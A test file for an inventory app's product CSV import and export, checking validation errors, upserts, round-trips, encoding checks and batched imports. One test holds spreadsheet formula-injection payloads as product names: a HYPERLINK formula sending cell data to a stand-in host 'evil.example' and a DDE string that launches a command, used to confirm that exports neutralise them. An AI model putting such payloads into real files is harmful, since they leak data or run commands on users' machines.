import { beforeAll, describe, expect, it } from 'vitest';
import type { Db } from '@/db';
import { parseCsv } from '@/lib/csv/read';
import { DomainError } from '@/lib/errors';
import { createTestDb } from '@/test/db';
import { makeLocation } from '@/test/fixtures';
import { productFields } from '@/test/forms';
import { exportProductsCsv } from './product-export';
import { importProductsCsv } from './product-import';
import { ensurePriceTiers, savePriceTierNames } from './price-tiers';
import { ProductInput } from './product-inputs';
import { getProduct, listProducts, saveProduct } from './products';

let db: Db;
beforeAll(async () => {
  db = (await createTestDb()).db;
  await ensurePriceTiers(db);
});

const blankProduct = productFields();
const bySku = async (q: string) => (await listProducts(db, { q, sort: 'sku', dir: 'asc', after: null, limit: 500 })).rows;
const importErrors = async (text: string | Blob) => {
  try {
    await importProductsCsv(db, text);
  } catch (e) {
    if (e instanceof DomainError) return { message: e.message, rows: e.fieldErrors?.file ?? [] };
    throw e;
  }
  throw new Error('import succeeded');
};

describe('products CSV import', () => {
  it('reports every bad row and writes nothing, not even the good rows', async () => {
    const csv = [
      'SKU,Name,Barcode,BarcodeType,Price Tier 1,DefaultLocation',
      'ERR-1,Good one,,,1.00,',
      'ERR-2,Bad type,036000291452,QR,,',
      'ERR-3,,,,,',
      'ERR-4,Nowhere,,,,Atlantis',
      'ERR-5,Bad price,,,1.001,',
    ].join('\r\n');
    const result = await importErrors(csv);
    expect(result.message).toContain('4 errors; nothing was imported');
    expect(result.rows).toEqual([
      'Line 3: Barcode type must be one of UPC, EAN, GCID, JAN, ISBN.',
      'Line 4: Name is required.',
      'Line 5: Default location "Atlantis" does not exist.',
      'Line 6: Price Tier 1: Enter a price like 12.50 (not negative, at most 2 decimals).',
    ]);
    expect(await bySku('ERR-')).toEqual([]);
  });

  it('creates new SKUs and updates existing ones (matched regardless of case), in one go', async () => {
    const loc = await makeLocation(db, 'Import WH');
    const { id } = await saveProduct(db, ProductInput.parse({ sku: 'IMP-1', name: 'Old name', barcode: '', barcodeType: '', fnsku: 'X00IMP0001', asin: '', unitCost: '1', defaultLocationId: '', price1: '5', price2: '6', ...Object.fromEntries(Array.from({ length: 8 }, (_, i) => [`price${i + 3}`, ''])) }));
    const csv = '\uFEFFSKU,Name,DefaultLocation,Price Tier 1\r\nimp-1,"New name, improved",import wh,\r\nIMP-2,Second,,2.50\r\n';
    expect(await importProductsCsv(db, csv)).toEqual({ created: 1, updated: 1 });
    // Columns the file leaves out (FNSKU, unit cost, tier 2) are left as they were; a blank price cell removes that price.
    expect(await getProduct(db, id)).toMatchObject({ sku: 'IMP-1', name: 'New name, improved', fnsku: 'X00IMP0001', unitCost: 10000, defaultLocationId: loc.id, prices: { 2: 600 } });
    expect((await bySku('IMP-2'))[0]).toMatchObject({ name: 'Second', defaultLocation: null });
  });

  it('refuses a file whose header it cannot read, and one with the same SKU twice', async () => {
    expect((await importErrors('Code,Name\r\nA,B')).rows[0]).toContain('Column 1 "Code" is not a products column');
    expect((await importErrors('SKU,Name\nTWICE-1,A\ntwice-1,B')).rows).toEqual(['Line 3: SKU twice-1 already appears on line 2.']);
    expect(await bySku('TWICE-')).toEqual([]);
  });

  it('round-trips: export, import the file back, export again gives the same file', async () => {
    await makeLocation(db, 'Round WH');
    await savePriceTierNames(db, ['Retail', 'Trade', ...Array.from({ length: 8 }, (_, i) => `Tier ${i + 3}`)]);
    for (let i = 0; i < 5; i++)
      await saveProduct(
        db,
        ProductInput.parse({
          sku: `RT-${i}`,
          name: i === 0 ? 'Quote "this", and\nthat' : `Round ${i}`,
          barcode: i % 2 ? '9780306406157' : '',
          barcodeType: i % 2 ? 'ISBN' : '',
          fnsku: i === 2 ? 'X00RT00002' : '',
          asin: i === 3 ? '030640615X' : '',
          unitCost: i ? `${i}.2345` : '',
          defaultLocationId: '',
          ...Object.fromEntries(Array.from({ length: 10 }, (_, t) => [`price${t + 1}`, (t + i) % 3 ? `${t + i}.${t}0` : ''])),
        }),
      );
    const first = await exportProductsCsv(db, 2);
    const records = parseCsv(first);
    expect(records[0].slice(0, 9)).toEqual(['SKU', 'Name', 'Barcode', 'BarcodeType', 'FNSKU', 'ASIN', 'UnitCost', 'DefaultLocation', 'Price Tier 1']);
    const count = (await bySku('')).length;
    expect(records).toHaveLength(count + 1);
    expect(await importProductsCsv(db, first)).toEqual({ created: 0, updated: count });
    expect(await exportProductsCsv(db, 3)).toBe(first);
  });

  it('exports names a spreadsheet would run as text, and imports them back unchanged (issue 7, item 8)', async () => {
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Open")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', "'=quoted already"];
    for (const [i, name] of names.entries()) await saveProduct(db, ProductInput.parse({ ...blankProduct, sku: `FX-${i}`, name }));
    // Typed in the product form with a leading tab: trimmed, so stored as "=1+1", and exported as text.
    await saveProduct(db, ProductInput.parse({ ...blankProduct, sku: 'FX-TAB', name: '\t=1+1' }));
    const stored = await bySku('FX-');
    expect(stored.map((r) => r.name)).toEqual([...names, '=1+1']);

    const exported = await exportProductsCsv(db);
    const cells = exported.split('\r\n').filter((l) => l.startsWith('FX-')).map((l) => l.slice(l.indexOf(',') + 1).split(',')[0]);
    expect(cells).toEqual([`"'=HYPERLINK(""http://evil.example/?x=""&A1`, "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "''=quoted already", "'=1+1"]);

    expect(await importProductsCsv(db, exported)).toMatchObject({ created: 0 });
    expect((await bySku('FX-')).map((r) => r.name)).toEqual([...names, '=1+1']);
  });

  it('refuses a file with a NUL character or bytes that are not UTF-8, naming the line; nothing is imported (issue 7, item 1)', async () => {
    const nul = await importErrors('SKU,Name\r\nNUL-1,Fine\r\nNUL-2,Bad\0name\r\n');
    expect(nul.rows).toEqual([expect.stringMatching(/^Line 3: the file contains a NUL character/)]);
    expect(nul.message).toContain('nothing was imported');
    const enc = new TextEncoder();
    const latin1 = new Uint8Array([...enc.encode('SKU,Name\r\nNUL-3,Fine\r\nNUL-4,Caf'), 0xe9, ...enc.encode('\r\n')]);
    const bad = await importErrors(new Blob([latin1]));
    expect(bad.rows).toEqual([expect.stringMatching(/^Line 3: the file is not UTF-8 text/)]);
    expect(await bySku('NUL-')).toEqual([]);
    // The same file saved as UTF-8 imports.
    expect(await importProductsCsv(db, new Blob([enc.encode('\uFEFFSKU,Name\r\nNUL-3,Café\r\n')]))).toEqual({ created: 1, updated: 0 });
  });

  it('imports a larger file in batches', async () => {
    const lines = ['SKU,Name,UnitCost,Retail'];
    for (let i = 0; i < 2500; i++) lines.push(`BULK-${String(i).padStart(5, '0')},Bulk ${i},0.${i % 10},${i}.99`);
    expect(await importProductsCsv(db, lines.join('\n'))).toEqual({ created: 2500, updated: 0 });
    const rows = await bySku('bulk-0249');
    expect(rows.map((r) => r.sku)).toEqual(Array.from({ length: 10 }, (_, i) => `BULK-0249${i}`));
    expect(rows[9].unitCost).toBe(9000);
  });
});
